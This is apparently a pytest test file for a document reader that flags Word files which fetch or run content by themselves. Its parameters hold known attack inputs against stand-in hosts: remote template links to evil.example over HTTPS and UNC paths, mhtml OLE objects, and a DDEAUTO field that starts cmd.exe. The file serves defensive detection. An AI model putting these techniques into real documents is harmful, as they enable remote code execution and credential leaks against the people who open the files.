"""A26, A27: what a reader's computer would follow or run by itself is named, and what people follow passes."""

from collections.abc import Sequence

import pytest

from intake.readers.files import read_file
from tests.readers.build import RELATION, W, archive, members, p, relationships, told


def active(what: str) -> list[tuple[str, object]]:
    return [("active", what)] if what else []


def linking(kind: str, target: str, mode: str = "External") -> bytes:
    """A document with one more relationship."""
    return archive(members(p("x"), links=[(kind, target, mode)]))


@pytest.mark.parametrize(
    ("kind", "target", "what"),
    [
        pytest.param("attachedTemplate", "https://evil.example/x.dotm", "remote-template", id="A26-template-https"),
        pytest.param("attachedTemplate", "\\\\evil.example\\share\\x.dotm", "remote-template", id="A26-template-unc"),
        pytest.param("attachedTemplate", "file:///\\\\evil\\s\\x.dot", "remote-template", id="A26-template-file-unc"),
        pytest.param("attachedTemplate", "file://evil.example/x.dot", "remote-template", id="A26-template-file-host"),
        pytest.param("attachedTemplate", "file:////evil/s/x.dot", "remote-template", id="A26-template-four-slashes"),
        pytest.param("attachedTemplate", "%5C%5Cevil%5Cs%5Cx.dot", "remote-template", id="A26-template-escaped-unc"),
        pytest.param("attachedTemplate", "HTTPS://evil.example/x", "remote-template", id="A26-template-capitals"),
        pytest.param("attachedTemplate", "ms-word:ofe|u|http://x/", "remote-template", id="A26-template-own-scheme"),
        pytest.param("attachedTemplate", "file:///C:\\Users\\a\\x.dot", "", id="A26-template-on-a-drive"),
        pytest.param("attachedTemplate", "file:///C:/Program%20Files/x.dotm", "", id="A26-template-on-a-drive-as-uri"),
        pytest.param("attachedTemplate", "file://C:\\x.dot", "", id="A26-template-on-a-drive-two-slashes"),
        pytest.param("attachedTemplate", "file://localhost/Users/a/x.dotx", "", id="A26-template-on-this-host"),
        pytest.param("attachedTemplate", "file:///Users/a/x.dotx", "", id="A26-template-on-a-mac"),
        pytest.param("attachedTemplate", "C:\\x.dot", "", id="A26-template-drive-path"),
        pytest.param("attachedTemplate", "Normal.dotm", "", id="A26-template-by-name"),
        pytest.param("attachedTemplate", "\\??\\UNC\\evil\\s\\x.dot", "remote-template", id="A26-template-nt-path"),
        pytest.param("frame", "http://evil.example/", "remote-frame", id="A26-frame"),
        pytest.param("subDocument", "http://evil.example/b.docx", "sub-document", id="A26-sub-document"),
        pytest.param("subDocument", "chapter2.docx", "", id="A26-sub-document-beside-it"),
        pytest.param("oleObject", "mhtml:http://evil.example/x.html!x", "remote-object", id="A26-object-mhtml"),
        pytest.param("oleObject", "https://evil.example/x.rtf", "remote-object", id="A26-object-https"),
        pytest.param("oleObject", "file:///C:\\book.xls", "", id="A26-object-on-a-drive"),
        pytest.param("aFChunk", "http://evil.example/x.html", "alt-chunk", id="A26-chunk"),
        pytest.param("somethingNew", "http://evil.example/", "remote-object", id="A26-unknown-kind"),
        pytest.param("hyperlink", "https://www.itu.int/", "", id="A26-hyperlink"),
        pytest.param("hyperlink", "\\\\server\\share\\x.docx", "", id="A26-hyperlink-to-a-share"),
    ],
)
def test_links_that_a_computer_would_follow_are_named(kind: str, target: str, what: str) -> None:
    assert told(linking(kind, target)) == active(what)


@pytest.mark.parametrize(
    "rels",
    [
        "word/_rels/settings.xml.rels", "word/_rels/header1.xml.rels", "word/_rels/webSettings.xml.rels",
        "word/charts/_rels/chart1.xml.rels", "customXml/_rels/item1.xml.rels", "_rels/.rels", "WORD/_RELS/x.xml.RELS",
        "word/%5Frels/x.xml%2Erels",
    ],
)  # fmt: skip
def test_links_count_in_every_relationship_part_a26(rels: str) -> None:
    content = {**members(p("x")), rels: relationships([(f"{RELATION}/oleObject", "http://evil.example/x", "External")])}
    if rels == "_rels/.rels":
        both = [
            (f"{RELATION}/officeDocument", "word/document.xml", ""),
            (f"{RELATION}/oleObject", "http://e.example", "External"),
        ]
        content[rels] = relationships(both)
    assert told(archive(content)) == active("remote-object")


def test_an_address_is_outside_whatever_the_mode_says_a26() -> None:
    assert told(linking("attachedTemplate", "http://evil.example/x.dotm", "")) == active("remote-template")


def test_a_linked_picture_is_told_and_never_fetched_a26() -> None:
    for target in ("https://tracker.example/1.png", "file:///C:\\logo.png"):
        assert told(linking("image", target)) == [("linked-picture", "")]


def fields(*runs: str) -> str:
    """A complex field whose code is split over these runs, each a text or XML."""
    pieces = "".join(one if one.startswith("<") else f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in runs)
    return f"{char('begin')}{pieces}{char('separate')}<w:r><w:t>shown</w:t></w:r>{char('end')}"


def char(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def quoted(*parts: str) -> str:
    return f"<w:p>{fields(*parts)}</w:p>"


@pytest.mark.parametrize(
    ("body", "what"),
    [
        pytest.param(quoted(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'), "dde", id="A27-ddeauto"),
        pytest.param(quoted("DD", "E", "AUTO", " x y"), "dde", id="A27-split-over-runs"),
        pytest.param(quoted(" dde excel x"), "dde", id="A27-small-letters"),
        pytest.param(quoted(fields(" QUOTE 1 "), " DDE x"), "", id="A27-a-name-made-of-shown-text-is-no-dde"),
        pytest.param(quoted(" IF 1=1 ", fields(" DDEAUTO x y "), ' "b"'), "dde", id="A27-nested"),
        pytest.param(f"<w:p>{char('begin')}<w:r><w:instrText>DDEAUTO x</w:instrText></w:r></w:p>", "dde",
                     id="A27-never-closed"),
        pytest.param(quoted("DD<x:x/>EAUTO x y"), "dde", id="A27-split-by-a-foreign-element"),
        pytest.param('<w:p><w:fldSimple w:instr="DDEAUTO x y"/></w:p>', "dde", id="A27-simple-field"),
        pytest.param(quoted(' INCLUDETEXT "https://evil.example/x.docx"'), "include", id="A27-include-text"),
        pytest.param(quoted(' INCLUDEPICTURE "http://e.example/1.png" \\d'), "include", id="A27-include-picture"),
        pytest.param(quoted(' INCLUDEPICTURE "\\\\\\\\evil\\\\s\\\\1.png"'), "include", id="A27-include-unc"),
        pytest.param(quoted(" INCLUDE http://evil.example/x"), "include", id="A27-include-bare"),
        pytest.param(quoted(" LINK Excel.Sheet.8 \\\\\\\\evil\\\\s\\\\b.xls R1C1 \\a"), "include", id="A27-link-unc"),
        pytest.param(quoted(' INCLUDEPICTURE "C:\\\\logo.png" \\* MERGEFORMAT'), "", id="A27-include-from-a-drive"),
        pytest.param(quoted(' LINK Excel.Sheet.8 "C:\\\\b.xls" "" \\a \\f 0 \\p'), "", id="A27-link-to-a-drive"),
        pytest.param(quoted(' HYPERLINK "https://www.itu.int"'), "", id="A27-hyperlink"),
        pytest.param(quoted(" PAGE \\* MERGEFORMAT"), "", id="A27-page"),
        pytest.param(quoted(" MACROBUTTON NoMacro [click here]"), "", id="A27-click-here"),
        pytest.param(p('DDEAUTO c:\\cmd.exe, INCLUDETEXT "http://evil.example"'), "", id="A27-plain-text"),
    ],
)  # fmt: skip
def test_field_codes_are_read_and_plain_text_is_not(body: str, what: str) -> None:
    assert told(archive(members(body))) == active(what)


@pytest.mark.parametrize("kind", ["header", "footer", "footnotes", "endnotes", "comments"])
def test_fields_count_wherever_text_stands_a27(kind: str) -> None:
    inner = f'<w:{kind} xmlns:w="{W}"><w:comment>{quoted("DDEAUTO x")}</w:comment></w:{kind}>'
    content = members(p("x"), links=[(kind, f"{kind}.xml", "")], more={f"word/{kind}.xml": inner})
    assert told(archive(content)) == active("dde")


def test_fields_count_in_a_strict_document_a27() -> None:
    assert told(archive(members(quoted("DDEAUTO x"), strict=True))) == active("dde")


@pytest.mark.parametrize(
    ("mode", "kind"), [(" External ", "attachedTemplate"), ("External", "attachedTemplate ")], ids=["mode", "type"]
)
def test_white_space_hides_no_link_a26(mode: str, kind: str) -> None:
    content = archive(members(p("x"), links=[(kind, "\\\\evil\\s\\x.dot", mode)]))
    assert told(content) == active("remote-template")


def test_everything_is_told_once_and_at_once() -> None:
    links: Sequence[tuple[str, str, str]] = [
        ("attachedTemplate", "http://a.example", "External"),
        ("attachedTemplate", "http://b.example", "External"),
        ("image", "http://c.example", "External"),
    ]
    content = archive(members(quoted("DDE x") + quoted("DDE y"), links=links))
    assert told(content) == [("active", "remote-template"), ("linked-picture", ""), ("active", "dde")]
    assert [one.at for one in read_file(content, "").problems] == ["word/document.xml", "", "word/document.xml"]
